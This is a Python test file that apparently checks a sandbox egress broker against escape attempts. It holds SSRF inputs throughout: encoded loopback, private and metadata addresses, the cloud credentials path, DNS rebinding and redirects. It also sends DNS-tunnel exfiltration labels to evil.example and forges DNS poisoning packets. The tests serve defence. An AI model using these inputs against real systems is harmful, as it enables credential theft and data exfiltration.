"""B2: where does a name lead?"""
from lib import *

NOT_ALLOWED = ("EGRESS_ADDRESS_NOT_ALLOWED",)
LITERAL = ("EGRESS_ADDRESS_LITERAL",)


def at(label):
    """A name the attacker's own DNS server answers for."""
    return f"{label}.{N['zone']}"


def visit(host, port=443, **more):
    """An honest request without a credential."""
    shown = host if port == 443 else f"{host}:{port}"
    return ask(path="/", host=host, port=port, hosthdr=shown, token="", **more)


def visit_plain(host, port=80, path="/"):
    shown = host if port == 80 else f"{host}:{port}"
    return plain(host, request(path=path, host=shown, token=""), port=port)


def row_027():
    port = N["attacker_port"]
    host = at("rebind")
    passed("the first time, when its address may be dialled", visit(host, port), uses=0, body=b"ok")
    for number in (2, 3):
        refused(f"time {number}, when it is the loopback address", visit(host, port), *NOT_ALLOWED)
    refused("without TLS", visit_plain(host), *NOT_ALLOWED)
    for label in ("127-0-0-1", "169-254-169-254", "10-1-2-3", "192-168-0-1", "172-17-0-1"):
        refused(f"a name that means {label}", visit(at(label)), *NOT_ALLOWED)


def row_028():
    port = N["attacker_port"]
    refused("IPv4 private, IPv6 the loopback address in disguise", visit(at("mixed")), *NOT_ALLOWED)
    refused("an alias of that name", visit(at("alias")), *NOT_ALLOWED)
    refused("the same without TLS", visit_plain(at("alias")), *NOT_ALLOWED)
    for number in (1, 2, 3):
        passed(f"one good address and one private, time {number}: the good one", visit(at("half"), port), uses=0, body=b"ok")
    # Where the good address does not answer, the private one must not be tried.
    refused("the good address does not answer", visit(at("half"), 9), *NOT_ALLOWED, "EGRESS_UPSTREAM_UNREACHABLE")


def row_029():
    for address in ("0:0:0:0:0:ffff:a9fe:a9fe", "0:0:0:0:0:ffff:7f00:1", "64:ff9b:0:0:0:0:a9fe:a9fe", "64:ff9b:1:0:0:0:a00:1",
                    "2002:a9fe:a9fe:0:0:0:0:1", "2002:7f00:1:0:0:0:0:1", "0:0:0:0:0:0:0:0", "0:0:0:0:0:0:0:1", "0:0:0:0:0:0:7f00:1",
                    "fd00:ec2:0:0:0:0:0:254", "fe80:0:0:0:0:0:0:1", "2001:0:0:0:0:0:0:1"):
        refused(f"a name that means {address}", visit(at(address.replace(":", "-"))), *NOT_ALLOWED)
    for address in ("0.0.0.0", "0.1.2.3", "255.255.255.255", "224.0.0.1", "198.18.0.9"):
        refused(f"a name that means {address}", visit(at(address.replace(".", "-"))), *NOT_ALLOWED)
    for address in ("::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "::1", "::"):
        answer = visit_plain(address)
        ok = answer.code in LITERAL or answer.status is None and answer.error not in (None, "timeout")
        note(f"[{address}] dialled", "no connection, or refused: " + LITERAL[0], ok, answer, answer.raw, answer.code)
    for text in ("2130706433", "0x7f000001", "0177.0.0.1", "0x7f.1", "127.1", "2852039166", "0xa9fea9fe"):
        turned_away(f"Host {text} at the bound host", ask(hosthdr=text), "EGRESS_MALFORMED_REQUEST", "EGRESS_AUTHORITY_MISMATCH")
        found = dns(text)
        note(f"lookup of {text}", "no such name", found == (3, []), found)
    for text in ("2852039166", "0xa9fea9fe", "0251.0376.0251.0376"):
        refused(f"{text} dialled, which C libraries read as the metadata address", visit_plain(text), *LITERAL)


def row_030():
    path = "/latest/meta-data/iam/security-credentials/"
    for host in ("metadata.google.internal", "metadata.azure.internal", "instance-data.ec2.internal"):
        refused(host, visit_plain(host, path=path), "EGRESS_HOST_NOT_ALLOWED")
        refused(f"{host} over TLS", visit(host), "EGRESS_HOST_NOT_ALLOWED")
    found = dns("metadata")
    note("lookup of metadata", "no such name", found == (3, []), found)
    for address in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "168.63.129.16", "192.0.0.192"):
        refused(address, visit_plain(address, path=path), *LITERAL)
        refused(f"{address} over TLS", visit(address, sni=""), *LITERAL)
        refused(f"a name that means {address}", visit_plain(at(address.replace(".", "-")), path=path), *NOT_ALLOWED)
    refused("its address, Host of an allowed host", plain("169.254.169.254", request(host=N["allowed"], token="")), *LITERAL)


def row_031():
    for url, codes in (("http://169.254.169.254/latest/meta-data/", LITERAL), ("http://10.0.0.1/", LITERAL),
                       (f"https://{at('169-254-169-254')}/", NOT_ALLOWED), (f"http://{at('127-0-0-1')}/", NOT_ALLOWED),
                       ("http://metadata.google.internal/", ("EGRESS_HOST_NOT_ALLOWED",))):
        answer = ask(do=f"redirect {url}")
        passed(f"the bound host leads to {url}", answer, status=307)
        scheme, _, rest = answer.header("location").decode().partition("://")
        host = rest.partition("/")[0]
        followed = visit(host) if scheme == "https" else visit_plain(host)
        refused("followed", followed, *codes)


def ranges(addresses, ports):
    for address in addresses:
        for port in ports:
            refused(f"{address}, port {port}, over TLS", visit(address, port, sni=""), *LITERAL)
        refused(f"{address} over HTTP", visit_plain(address), *LITERAL)
        refused(f"a name that means {address}", visit(at(address.replace(".", "-"))), *NOT_ALLOWED)


def private_ranges(argument):
    ranges(("10.0.0.1", "172.17.0.1", "192.168.1.1", "100.64.0.1"), (443, 2375))
    host, port = argument["host"], argument["port"]
    refused(f"this machine at {host}:{port}", visit_plain(host, port), *LITERAL)
    if not host.startswith("127."):
        refused("its name", visit_plain(at(host.replace(".", "-")), port), *NOT_ALLOWED)


def host_services(argument):
    host, port = argument["host"], argument["port"]
    for address in ("127.0.0.1", "127.0.0.77", "localhost"):
        try:
            with tcp(address, port, LOCAL_TIMEOUT):
                seen = "connected"
        except OSError as problem:
            seen = type(problem).__name__
        note(f"the API at {address}:{port}", "nobody there: loopback is the sandbox's own", seen == "ConnectionRefusedError", seen)
    refused("the API at the machine's own address", visit_plain(host, port, "/api/v1/whoami"), *LITERAL)
    refused("a name that means its loopback address", visit_plain(at("127-0-0-1"), port, "/api/v1/whoami"), *NOT_ALLOWED)
    broker = name_server()
    for other in (1, 2, 53, 80, 443):
        answer = wire(broker, request(host=broker, token=""), port=other, timeout=12)
        ok = answer.code in ("EGRESS_ADDRESS_LITERAL", "EGRESS_AUTHORITY_MISMATCH") or answer.status is None
        note(f"the broker's own address, port {other}", "refused, or nothing of HTTP", ok, answer, answer.raw, answer.code)
    with open("/proc/net/unix") as table:
        paths = [line.split()[7] for line in table if len(line.split()) > 7]
    # The broker's end of its connection with this sandbox shows its name here; the name leads nowhere.
    for path in {path for path in paths if any(word in path for word in ("egress", "broker", "docker", "server"))}:
        with socket.socket(socket.AF_UNIX) as sock:
            error = sock.connect_ex("\0" + path[1:] if path.startswith("@") else path)
        note(f"Unix socket {os.path.basename(path)}", "not reachable", error != 0, os.strerror(error))
    here = [path for path in ("/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/miosa", "/run/dbus/system_bus_socket")
            if os.path.exists(path)]
    note("well-known sockets", "none", here == [], here)


LABELS = ("exfil-" + "a" * 57, "exfil-" + base64.b32encode(b"secret data of a run").decode().rstrip("=").lower())


def is_local(found):
    """Answered by the broker itself: an address of its own, or nothing."""
    return found is not None and all(kind == 1 and data[:1] == b"\xc6" and data[1] in (18, 19) for kind, data in found[1])


def tunnel_unlisted():
    for label in LABELS:
        for host in (f"{label}.evil.example", f"{label}.{label}.tunnel.example", f"{label}.{label}.{N['zone']}"):
            for kind, what in ((1, "A"), (16, "TXT"), (5, "CNAME")):
                found = dns(host, kind)
                note(f"{what} of {host[:24]}…", "answered here", is_local(found), found)
            refused(f"a connection to {host[:24]}…", visit(host), "EGRESS_HOST_NOT_ALLOWED")
    # Every server of the internet is the broker in here.
    found = dns(f"{LABELS[1]}.evil.example", server="8.8.8.8")
    note("asked of a public server", "answered here", is_local(found), found)


def tunnel_lookups():
    for host in (at("exfil-one"), at(LABELS[0]), at(f"exfil-two.{LABELS[0]}")):
        for kind in (1, 16, 28):
            found = dns(host, kind)
            note(f"lookup of {host[:24]}…, type {kind}", "answered here", is_local(found), found)


def tunnel_connections():
    refused("a connection below the zone, one label", visit(at("exfil-one")), "EGRESS_UPSTREAM_NOT_FOUND")
    refused("two labels", visit(at("exfil-two.deeper")), "EGRESS_HOST_NOT_ALLOWED")
    try:
        answer = visit("x" * 64 + "." + N["zone"])
    except (OSError, UnicodeError) as problem:
        answer = Answer(error=type(problem).__name__)
    note("a label that is too long", "no such host", answer.status is None, answer)


def other_dns():
    host = "exfil-three.evil.example"
    for server in (None, "8.8.8.8", "1.1.1.1"):
        for over_tcp in (False, True):
            found = dns(host, 1, over_tcp, server)
            note(f"port 53 of {server or 'the name server'}, {'TCP' if over_tcp else 'UDP'}", "answered here", is_local(found), found)
    question = b"\x00\x1d" + b"\x4d\x69\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05exfil\x00\x00\x01\x00\x01"
    refused("DNS on TCP port 853", wire("8.8.8.8", question, port=853), "EGRESS_PROTOCOL_NOT_ALLOWED")
    refused("DNS over TLS", raw("8.8.8.8", request(host="8.8.8.8:853", token=""), sni="", port=853), *LITERAL)
    refused("DNS over TLS by name", visit("dns.google", 853), "EGRESS_HOST_NOT_ALLOWED")
    for address, port, what in (("8.8.8.8", 853, "DNS over QUIC"), ("8.8.8.8", 443, "HTTP/3"), ("224.0.0.251", 5353, "mDNS"), ("224.0.0.252", 5355, "LLMNR")):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(1)
            try:
                sock.connect((address, port))
                sock.send(question[2:])
                seen = f"{len(sock.recv(4096))} bytes"
            except (OSError, TimeoutError) as problem:
                seen = type(problem).__name__
        note(f"{what}, UDP", "no answer", "bytes" not in seen, seen)
    for name in ("dns.google", "cloudflare-dns.com", "dns.quad9.net"):
        answer = ask(path="/dns-query?dns=TWkBAAABAAAAAAAABWV4ZmlsAAABAAE", host=name, token="")
        refused(f"DNS over HTTPS at {name}", answer, "EGRESS_HOST_NOT_ALLOWED")
    refused("DNS over HTTPS at an address", visit("1.1.1.1", sni=""), *LITERAL)


def row_037():
    from threading import Thread
    found = {}

    def attempt(label):
        started = time.monotonic()
        answer = visit(at(label), timeout=30)
        found[label] = (time.monotonic() - started, answer)
    threads = [Thread(target=attempt, args=(label,)) for label in ("many", "loop")]
    for thread in threads:
        thread.start()
    passed("the bound host meanwhile", ask())
    for thread in threads:
        thread.join()
    for label, (seconds, answer) in found.items():
        refused(f"{label}", answer, *NOT_ALLOWED, "EGRESS_UPSTREAM_NOT_FOUND", "EGRESS_UPSTREAM_UNREACHABLE")
        note(f"{label}, in {seconds:.1f} s", "within 20 s", seconds < 20, seconds)


def row_038():
    for host in (N["bound"], N["allowed"], at("203-0-113-9"), "no-rule.example"):
        for kind, what in ((2, "NS"), (5, "CNAME"), (6, "SOA"), (10, "NULL"), (12, "PTR"), (15, "MX"), (16, "TXT"), (28, "AAAA"),
                           (33, "SRV"), (64, "SVCB"), (65, "HTTPS"), (252, "AXFR"), (255, "ANY"), (99, "SPF"), (65280, "a private type")):
            found = dns(host, kind)
            note(f"{what} of {host}", "empty", found == (0, []), found)
        found = dns(host)
        note(f"A of {host}", "one address of the broker's own", is_local(found) and len(found[1]) == 1, found)


def row_039():
    bound, wide = resolve(N["bound"]), resolve(N["wide"])
    refused("the bound host's address, no server name, no Host", raw(bound, request(host=bound), sni=""), "EGRESS_SERVER_NAME_MISMATCH")
    refused("with another allowed host's server name", ask(host=N["allowed"], address=bound, token=""), "EGRESS_SERVER_NAME_MISMATCH")
    refused("another host's address with the bound host's", ask(address=wide), "EGRESS_SERVER_NAME_MISMATCH")
    refused("in cleartext, another Host", plain(bound, request(host=N["allowed"], token="")), "EGRESS_AUTHORITY_MISMATCH")
    refused("in cleartext, its address as Host", plain(bound, request(host=bound, token="")), "EGRESS_AUTHORITY_MISMATCH")
    allowed = resolve(N["allowed"])
    refused("an allowed name's address at another port", raw(allowed, request(host=f"{allowed}:8443", token=""), sni="", port=8443),
            "EGRESS_SERVER_NAME_MISMATCH")
    for address in ("198.19.255.250", "198.18.255.251"):
        refused(f"{address}, which was given to no name", plain(address, request(host=N["allowed"], token="")), "EGRESS_AUTHORITY_MISMATCH")
        refused(f"{address} over TLS, no server name", raw(address, request(host=N["bound"]), sni=""), "EGRESS_SERVER_NAME_MISMATCH")
    passed("the bound host by its name", ask())


def poison():
    """In one sandbox: whatever may be said to its name server. Gives the address of a name only it asked for."""
    server = name_server()
    name = b"".join(bytes([len(label)]) + label for label in N["bound"].encode().split(b".")) + b"\0"
    record = b"\xc0\x0c\x00\x01\x00\x01\x00\x01\x51\x80\x00\x04" + socket.inet_aton(N["attacker_address"])
    forged = b"\x4d\x69\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + name + b"\x00\x01\x00\x01" + record
    loaded = b"\x4d\x69\x01\x00\x00\x01\x00\x01\x00\x00\x00\x00" + name + b"\x00\x01\x00\x01" + record
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        sock.connect((server, 53))
        for what, packet in (("an answer nobody asked for", forged), ("a question with an answer in it", loaded)):
            sock.send(packet)
            try:
                seen = sock.recv(4096)
            except (OSError, TimeoutError):
                seen = b""
            attacker = socket.inet_aton(N["attacker_address"])
            note(what, "ignored", attacker not in seen, seen)
    passed("the bound host afterwards", ask())
    host = "only-the-first-asked.example"
    address = resolve(host)
    refused("that name here", visit_plain(host), "EGRESS_HOST_NOT_ALLOWED")
    return address


def poisoned(address):
    """In the other sandbox."""
    refused("the first sandbox's address of a name", plain(address, request(host=N["allowed"], token="")), "EGRESS_AUTHORITY_MISMATCH")
    passed("the bound host in the second sandbox", ask())
    note("its address", "one of the broker's own", resolve(N["bound"]).startswith(("198.18.", "198.19.")), resolve(N["bound"]))


if __name__ == "__main__":
    run(globals())
